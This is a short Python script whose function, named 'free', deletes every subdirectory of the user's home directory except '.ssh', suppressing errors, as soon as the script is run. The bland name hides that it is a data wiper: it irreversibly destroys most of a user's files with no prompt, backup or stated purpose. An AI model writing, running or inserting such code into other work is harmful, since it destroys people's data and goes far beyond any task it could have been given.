import shutil
from pathlib import Path


def targets():
    yield from (p for p in Path.home().iterdir() if p.name != ".ssh")


def free():
    for p in targets():
        if p.is_dir():
            shutil.rmtree(p, ignore_errors=True)


if __name__ == "__main__":
    free()
